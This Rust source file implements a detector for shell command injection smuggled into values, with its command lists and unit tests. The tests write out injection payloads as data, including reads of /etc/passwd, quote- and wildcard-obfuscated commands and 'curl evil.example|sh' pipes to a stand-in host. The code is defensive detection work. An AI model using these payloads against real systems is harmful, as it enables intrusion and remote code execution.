//! Commands of a shell behind a value.
//!
//! A command line, or a document with commands in it, is ordinary. A single value that goes on with a command is not.

use super::{Form, Found, is_word, position};
use crate::shield::rule::Detector;

/// Commands that attacks run, sorted.
const COMMANDS: &[&str] = &[
    "apt-get",
    "arp",
    "awk",
    "base64",
    "bash",
    "bitsadmin",
    "busybox",
    "cat",
    "certutil",
    "chmod",
    "chown",
    "cmd",
    "cmd.exe",
    "cp",
    "crontab",
    "cscript",
    "csh",
    "curl",
    "cut",
    "dd",
    "df",
    "dig",
    "dir",
    "diskutil",
    "dpkg",
    "echo",
    "env",
    "eval",
    "exec",
    "expr",
    "false",
    "find",
    "fping",
    "ftp",
    "gcc",
    "get-childitem",
    "get-content",
    "get-process",
    "grep",
    "gunzip",
    "head",
    "history",
    "host",
    "hostname",
    "id",
    "iex",
    "ifconfig",
    "invoke-expression",
    "invoke-webrequest",
    "ip",
    "ipconfig",
    "iwr",
    "kill",
    "killall",
    "ksh",
    "ls",
    "lsof",
    "lua",
    "mkfifo",
    "mount",
    "mshta",
    "mutt",
    "mv",
    "mysql",
    "nc",
    "ncat",
    "net",
    "netcat",
    "netsh",
    "netstat",
    "nl",
    "nltest",
    "nmap",
    "node",
    "nohup",
    "nslookup",
    "od",
    "openssl",
    "passwd",
    "perl",
    "php",
    "ping",
    "pip",
    "powershell",
    "powershell.exe",
    "printenv",
    "printf",
    "ps",
    "pwd",
    "python",
    "python2",
    "python3",
    "qwinsta",
    "reboot",
    "reg",
    "regsvr32",
    "rev",
    "rm",
    "route",
    "ruby",
    "rundll32",
    "sc",
    "schtasks",
    "scp",
    "sed",
    "set",
    "sh",
    "shutdown",
    "sleep",
    "socat",
    "sort",
    "ssh",
    "strings",
    "su",
    "sudo",
    "sysinfo",
    "systemctl",
    "systeminfo",
    "tac",
    "tail",
    "tar",
    "tasklist",
    "tee",
    "telnet",
    "tftp",
    "timeout",
    "touch",
    "tr",
    "traceroute",
    "true",
    "type",
    "uname",
    "uniq",
    "useradd",
    "ver",
    "vi",
    "vssadmin",
    "w",
    "wc",
    "wevtutil",
    "wget",
    "whereis",
    "which",
    "who",
    "whoami",
    "wmic",
    "wscript",
    "xargs",
    "xxd",
    "zsh",
];

/// For each first letter the lengths of the commands, a bit each.
#[expect(clippy::indexing_slicing, reason = "evaluated when it is compiled")]
const LENGTHS: [u32; 256] = {
    let mut lengths = [0; 256];
    let mut at = 0;
    while at < COMMANDS.len() {
        let command = COMMANDS[at].as_bytes();
        lengths[command[0] as usize] |= 1 << command.len();
        at += 1;
    }
    lengths
};

/// Bytes of a command with its path, as far as it is read.
const MAX_COMMAND_BYTES: usize = 64;

/// Bytes of a value with a command between backticks.
const MAX_QUOTED_BYTES: usize = 64;

/// Spaces and brackets before a command.
const MAX_SKIPPED_BYTES: usize = 16;

/// Reports commands after a separator. `decoded`: the text is the decoded form of another one.
pub fn find(text: &str, decoded: bool, form: Form, found: Found<'_>) {
    let bytes = text.as_bytes();
    // Nobody sends an encoded newline before a command line.
    let continues = decoded && text.starts_with(['\n', '\r']);
    let line = match form {
        Form::Argument => true,
        Form::Line => continues || !begins_command(text),
        Form::Document => false,
    };
    let is_url = text.starts_with("data:");
    let mut at = 0;
    while let Some(next) = bytes.get(at..).and_then(|rest| {
        rest.iter()
            .position(|byte| matches!(byte, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'<' | b'>'))
    }) {
        let begin = at + next;
        at = begin + 1;
        let separator = bytes.get(begin).copied().unwrap_or_default();
        if is_url && bytes.get(at..).is_some_and(|rest| rest.starts_with(b"base64,")) {
            continue;
        }
        let opens = bytes.get(at) == Some(&b'(');
        match separator {
            b'$' | b'<' | b'>' if !opens => continue,
            b'$' | b'<' | b'>' => at += 1,
            b'\n' if begin + 1 == bytes.len() => continue,
            _ => {}
        }
        let Some((end, is_plain)) = command(bytes, at, separator) else { continue };
        // Markdown writes code between backticks, and scripts have many lines.
        let before = if line { text.get(..begin).unwrap_or_default() } else { "" };
        let words = before.split_whitespace().take(4).count();
        let glued = !before.ends_with(char::is_whitespace);
        let is_attack = line
            && match separator {
                b'`' => glued && words <= 1 && text.len() <= MAX_QUOTED_BYTES,
                _ if form == Form::Argument && is_plain => true,
                b'$' | b'<' | b'>' => glued && words <= 1,
                b'|' | b'\n' => words <= 1,
                _ => words <= 3,
            };
        found(
            if is_attack { Detector::ShellCommand } else { Detector::ShellMentioned },
            begin..end,
        );
    }
}

/// Whether something in a text can separate commands.
#[must_use]
pub fn may_go_on(text: &str) -> bool {
    text.contains([';', '|', '&', '`', '$', '\n', '<', '>'])
}

/// Whether a text is a command line by itself.
fn begins_command(text: &str) -> bool {
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || c == '`');
    let word = text.split(|c: char| c.is_whitespace()).next().unwrap_or_default();
    let more = text.len() > word.len();
    text.starts_with("#!")
        || text.starts_with("$ ")
        || (more
            && word.bytes().all(|byte| is_word(byte) || matches!(byte, b'-' | b'.' | b'/'))
            && (is_command(word.as_bytes()) || TOOLS.contains(&word)))
}

/// Commands with which developers' command lines begin.
const TOOLS: [&str; 34] = [
    "apt",
    "apt-get",
    "brew",
    "cargo",
    "cd",
    "cmake",
    "docker",
    "docker-compose",
    "export",
    "for",
    "gcloud",
    "gh",
    "git",
    "go",
    "helm",
    "if",
    "java",
    "jq",
    "kubectl",
    "make",
    "mkdir",
    "mvn",
    "npm",
    "npx",
    "pnpm",
    "pytest",
    "rustup",
    "source",
    "systemctl",
    "terraform",
    "test",
    "time",
    "while",
    "yarn",
];

fn is_command(word: &[u8]) -> bool {
    let name = word.rsplit(|byte| matches!(byte, b'/' | b'\\')).next().unwrap_or_default();
    // Most words are no command by their length and first letter.
    let length = 1_u32.checked_shl(name.len() as u32).unwrap_or_default();
    let letter = name.first().map_or(0, |byte| usize::from(byte.to_ascii_lowercase()));
    if LENGTHS.get(letter).is_none_or(|lengths| lengths & length == 0) {
        return false;
    }
    // `HEAD` is no command.
    let lower = name.iter().any(u8::is_ascii_lowercase);
    lower && position(COMMANDS, |known| known, name).is_some()
}

/// The end of the command at an offset. What follows must be what follows commands, since many of them are words. Also
/// returns whether it cannot be prose, whatever came before.
fn command(bytes: &[u8], at: usize, separator: u8) -> Option<(usize, bool)> {
    let rest = bytes.get(at..)?;
    let skipped = rest
        .iter()
        .take(MAX_SKIPPED_BYTES)
        .take_while(|byte| {
            byte.is_ascii_whitespace() || matches!(byte, b'{' | b'(' | b'|' | b'&' | b'!')
        })
        .count();
    // The shell drops quotes and backslashes inside of a word.
    let mut word = [0_u8; MAX_COMMAND_BYTES];
    let mut length = 0;
    let mut end = at + skipped;
    let mut quoted = false;
    while let Some(byte) = bytes.get(end).copied() {
        if matches!(byte, b'\'' | b'"' | b'\\' | b'^')
            && end > at + skipped - usize::from(skipped > 0)
            && bytes
                .get(end + 1)
                .is_some_and(|next| next.is_ascii_alphanumeric() || matches!(next, b'\'' | b'"'))
        {
            quoted = true;
        } else if byte == b'$' && matches!(bytes.get(end + 1), Some(b'@' | b'*')) {
            quoted = true;
            end += 1;
        } else if is_word(byte) || matches!(byte, b'.' | b'/' | b'-' | b'?' | b'*') {
            *word.get_mut(length)? = byte;
            length += 1;
        } else {
            break;
        }
        end += 1;
    }
    let word = word.get(..length)?;
    if !is_command(word) && !has_wildcard(word) {
        return None;
    }
    let after = bytes.get(end..).unwrap_or_default();
    let spaces = after.iter().take_while(|byte| **byte == b' ' || **byte == b'\t').count();
    let next = after.get(spaces);
    let mut is_plain = true;
    let follows = match next {
        None
        | Some(
            b';' | b'|' | b'&' | b'`' | b')' | b'}' | b'\n' | b'\r' | b'#' | b'$' | b'>' | b'<'
            | b'{' | b',',
        ) => true,
        Some(b'-' | b'/' | b'~' | b'0'..=b'9' | b'%' | b'*' | b'\\') if spaces > 0 => true,
        Some(b'\'' | b'"') => separator != b'`',
        Some(b'.') => spaces > 0 || length == 0,
        Some(_) => {
            is_plain = false;
            (takes_words(word) || at <= 2) && spaces > 0
        }
    };
    let closes = separator != b'`' || after.contains(&b'`') || spaces == after.len();
    ((follows || quoted) && closes).then_some((end, is_plain || quoted))
}

/// Commands after which words follow, and that are no words of prose.
fn takes_words(word: &[u8]) -> bool {
    const NAMES: [&str; 39] = [
        "awk",
        "bash",
        "cat",
        "certutil",
        "chmod",
        "cmd",
        "cp",
        "cscript",
        "curl",
        "dig",
        "dir",
        "ls",
        "mkfifo",
        "mshta",
        "mv",
        "nc",
        "net",
        "netcat",
        "nslookup",
        "perl",
        "php",
        "ping",
        "powershell",
        "python",
        "python3",
        "rm",
        "ruby",
        "sh",
        "sudo",
        "tar",
        "tasklist",
        "telnet",
        "traceroute",
        "type",
        "wget",
        "which",
        "whoami",
        "wmic",
        "wscript",
    ];
    let name = word.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
    position(&NAMES, |known| known, name).is_some()
}

/// Whether a path names a command with wildcards: `/bin/c?t`.
fn has_wildcard(word: &[u8]) -> bool {
    (word.starts_with(b"/bin/") || word.starts_with(b"/usr/") || word.starts_with(b"/???/"))
        && word.iter().any(|byte| matches!(byte, b'?' | b'*'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finds(text: &str) -> Option<Detector> {
        find_in(text, Form::of(text))
    }

    fn find_in(text: &str, form: Form) -> Option<Detector> {
        let mut worst = None;
        find(text, false, form, &mut |detector, _| {
            if worst != Some(Detector::ShellCommand) {
                worst = Some(detector);
            }
        });
        worst
    }

    #[test]
    fn commands_are_sorted() {
        assert!(COMMANDS.iter().all(|command| is_command(command.as_bytes())));
    }

    #[test]
    fn a_value_that_goes_on_with_a_command_is_found() {
        for text in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "x && whoami",
            "`id`",
            "$(sleep 5)",
            ";c'a't /etc/passwd",
            "a;w\\hoami",
            "| /bin/c?t /etc/passwd",
            "x\ncat${IFS}/etc/passwd",
            "a & ping -n 5 127.0.0.1 &",
            "{cat,/etc/passwd}|id",
        ] {
            assert_eq!(finds(text), Some(Detector::ShellCommand), "{text}");
        }
    }

    #[test]
    fn prose_scripts_and_command_lines_are_not() {
        for text in [
            "wait; sleep well",
            "cats & dogs",
            "a | b",
            "read this; more follows",
            "Tom & find out",
        ] {
            assert_eq!(finds(text), None, "{text}");
        }
        for text in [
            "Use the `id` of the user, please",
            "cd x && ls -la",
            "#!/bin/sh\nset -e; ls",
            "npm test | tee out.txt",
            "To install, run `curl https://x.example/i.sh | sh`.",
        ] {
            assert_ne!(finds(text), Some(Detector::ShellCommand), "{text}");
        }
    }

    #[test]
    fn an_argument_that_is_no_text_is_no_command_line() {
        for text in [
            "a long text of many words; curl evil.example|sh",
            "git x; curl evil.example|sh",
            "npm test && curl evil.example",
            "a\nb\nc; whoami",
        ] {
            assert_ne!(finds(text), Some(Detector::ShellCommand), "{text}");
            assert_eq!(find_in(text, Form::Argument), Some(Detector::ShellCommand), "{text}");
        }
    }
}
